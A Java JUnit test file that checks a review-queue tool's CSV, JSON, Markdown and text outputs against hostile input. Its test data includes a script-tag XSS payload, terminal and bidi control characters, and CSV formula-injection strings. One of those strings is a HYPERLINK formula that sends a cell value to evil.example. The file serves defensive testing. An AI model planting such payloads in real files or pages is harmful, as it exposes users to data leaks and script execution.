package org.articlint.report.queue;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.io.StringWriter;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.EnumMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.articlint.article.Span;
import org.articlint.check.ReviewState;
import org.articlint.check.ReviewState.Kind;
import org.articlint.lint.files.Failure;
import org.articlint.lint.review.QueueEntry;
import org.articlint.lint.review.ReviewQueue.Queue;
import org.articlint.report.medium.TextStyle;
import org.articlint.report.queue.QueueFormat.QueueLooks;
import org.commonmark.Extension;
import org.commonmark.ext.gfm.strikethrough.StrikethroughExtension;
import org.commonmark.ext.gfm.tables.TablesExtension;
import org.commonmark.parser.Parser;
import org.commonmark.renderer.html.HtmlRenderer;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The formats of the review queue, each read back by another reader. */
class QueueFormatsTest {

  private static final LocalDate TODAY = LocalDate.of(2026, 11, 21);
  private static final String EVIL =
      "a\"b,c;d\r\ne | `x` <script>alert(1)</script> [x](http://evil.example) @team #1 www.evil.example"
          + " **b** \u202e\u0007\u001b[31m ![i](x.png) - [x] &lt; https://evil.example";

  private static QueueEntry entry(String text) {
    ReviewState review =
        new ReviewState(
            Kind.OVERDUE,
            Optional.of(LocalDate.of(2024, 1, 1)),
            Optional.of(LocalDate.of(2024, 12, 31)),
            text,
            text,
            Span.at(0));
    return new QueueEntry(
        text + ".md", text, review, Optional.of(text), List.of(text, "Bo"), Optional.of(TODAY));
  }

  private static QueueEntry bare() {
    ReviewState review =
        ReviewState.without(Kind.NEVER_REVIEWED, "last_reviewed has no value", Span.at(0));
    return new QueueEntry("b.md", "", review, Optional.empty(), List.of(), Optional.empty());
  }

  private static String write(QueueFormat format, QueueEntry... entries) {
    Queue queue =
        new Queue(
            TODAY,
            7,
            new EnumMap<>(Map.of(Kind.OVERDUE, 1, Kind.CURRENT, 6)),
            0,
            List.of(entries),
            List.of(new Failure("broken.md", "because " + EVIL)),
            List.of());
    StringWriter out = new StringWriter();
    try {
      format.write(queue, new QueueLooks(TextStyle.plain(), true, "1.0"), out);
    } catch (IOException e) {
      throw new IllegalStateException("a text in memory", e);
    }
    return out.toString();
  }

  /** Reads CSV as RFC 4180 defines it. */
  private static List<List<String>> csv(String text) {
    List<List<String>> rows = new ArrayList<>();
    List<String> row = new ArrayList<>();
    StringBuilder cell = new StringBuilder();
    boolean isQuoted = false;
    for (int i = 0; i < text.length(); i++) {
      char c = text.charAt(i);
      if (c == '"' && isQuoted && text.startsWith("\"\"", i)) {
        cell.append(text.charAt(++i));
      } else if (c == '"') {
        assertTrue(isQuoted || cell.isEmpty(), "a quote within a cell");
        isQuoted = !isQuoted;
      } else if (!isQuoted && (c == ',' || c == '\r')) {
        row.add(cell.toString());
        cell.setLength(0);
        if (c == '\r') {
          assertEquals('\n', text.charAt(++i));
          rows.add(List.copyOf(row));
          row.clear();
        }
      } else {
        assertFalse(!isQuoted && c == '\n', "a line break outside quotes");
        cell.append(c);
      }
    }
    assertTrue(row.isEmpty() && cell.isEmpty() && !isQuoted, "the last row has its end");
    return rows;
  }

  @Test
  void csvIsReadBackCellByCell() {
    List<List<String>> rows = csv(write(QueueFormat.CSV, entry("Ünï, \"x\"; 😀"), bare()));
    assertEquals(
        List.of(
            List.of(
                "path",
                "title",
                "state",
                "due",
                "days_overdue",
                "age",
                "last_reviewed",
                "field",
                "owner",
                "last_changed",
                "reason",
                "waiting"),
            List.of(
                "Ünï, \"x\"; 😀.md",
                "Ünï, \"x\"; 😀",
                "overdue",
                "2024-12-31",
                "690",
                "1 year 10 months",
                "2024-01-01",
                "Ünï, \"x\"; 😀",
                "Ünï, \"x\"; 😀, Bo",
                "2026-11-21",
                "Ünï, \"x\"; 😀",
                "Ünï, \"x\"; 😀"),
            List.of(
                "b.md",
                "",
                "never-reviewed",
                "",
                "",
                "",
                "",
                "",
                "",
                "",
                "last_reviewed has no value",
                "")),
        rows);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=1+1",
        "+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1",
        " =1",
        "\r=1",
        "\n=1",
        "＝1",
        "＋1",
        "－1",
        "＠x",
        "=HYPERLINK(\"http://evil.example?\"&A1,\"x\")",
        "-",
        "--1",
        "-1.5",
        "+"
      })
  void noCellBeginsLikeAFormula(String text) {
    List<String> row = csv(write(QueueFormat.CSV, entry(text))).get(1);
    for (String cell : row) {
      boolean isFormula = !cell.isBlank() && "=+-@\t\r\n＝＋－＠".indexOf(cell.strip().charAt(0)) >= 0;
      assertFalse(isFormula, cell);
    }
    assertEquals(12, row.size());
  }

  @Test
  void csvOfAnAttackKeepsItsRowsAndShowsControls() {
    List<List<String>> rows = csv(write(QueueFormat.CSV, entry(EVIL), bare()));
    assertEquals(3, rows.size());
    assertTrue(rows.stream().allMatch(row -> row.size() == 12));
    String text = rows.toString();
    assertFalse(text.chars().anyMatch(c -> c < ' ' || c == 0x202e), text);
  }

  @Test
  void jsonIsReadBackWithEveryText() throws Exception {
    JsonNode json = new ObjectMapper().readTree(write(QueueFormat.JSON, entry(EVIL), bare()));
    JsonNode first = json.get("queue").get(0);
    assertEquals(EVIL, first.get("title").asText());
    assertEquals(EVIL, first.get("owners").get(0).asText());
    assertEquals(EVIL, first.get("waiting").asText());
    assertEquals(690, first.get("daysOverdue").asInt());
    JsonNode second = json.get("queue").get(1);
    for (String name : List.of("due", "daysOverdue", "age", "lastReviewed", "lastChanged")) {
      assertTrue(second.get(name).isNull(), name);
    }
    assertEquals(0, second.get("owners").size());
    assertEquals(6, json.get("states").get("current").asInt());
    assertEquals(0, json.get("states").get("due-soon").asInt());
    assertEquals("broken.md", json.get("failures").get(0).get("path").asText());
    assertEquals(7, json.get("articles").asInt());
  }

  @Test
  void aTextOfHalfACharacterIsStillJson() throws Exception {
    String json = write(QueueFormat.JSON, entry("x\ud800y"));
    assertEquals(
        "x\ufffdy", new ObjectMapper().readTree(json).get("queue").get(0).get("title").asText());
  }

  private static Document markdown(String text) {
    List<Extension> extensions = List.of(TablesExtension.create(), StrikethroughExtension.create());
    return Jsoup.parse(
        HtmlRenderer.builder()
            .extensions(extensions)
            .build()
            .render(Parser.builder().extensions(extensions).build().parse(text)));
  }

  @Test
  void markdownIsAListOfTasksInWhichTextIsInert() {
    String text = write(QueueFormat.MARKDOWN, entry(EVIL), bare());
    Document page = markdown(text);
    List<String> tasks = page.select("li").eachText();
    assertEquals(2, tasks.size(), text);
    assertTrue(tasks.stream().allMatch(task -> task.startsWith("[ ] ")), tasks.toString());
    assertEquals(0, page.select("a, img, script, em, del, table, li strong").size(), page.html());
    assertEquals(3, page.select("code").size(), "the paths alone");
    assertEquals(3, page.select("h3, h4").size(), page.html());
    assertTrue(page.text().contains("![i](x.png)"), "the text itself is there");
    assertFalse(
        page.wholeText().matches("(?s).*(https?://|www\\.).*"), "no address becomes a link");
    assertFalse(text.contains("@team"), "nobody is told");
    assertFalse(text.matches("(?s).*(?<!&)#\\d.*"), "no issue is named");
    assertFalse(text.chars().anyMatch(c -> (c < ' ' && c != '\n') || c == 0x202e), text);
  }

  @Test
  void textShowsControlsAndEndsWithACount() {
    String text = write(QueueFormat.TEXT, entry(EVIL), bare());
    assertFalse(text.chars().anyMatch(c -> (c < ' ' && c != '\n') || c == 0x202e), text);
    String last = text.lines().reduce((a, b) -> b).orElseThrow();
    assertEquals("2 articles listed; of 7 articles, 1 overdue, 6 current as of 2026-11-21", last);
  }
}
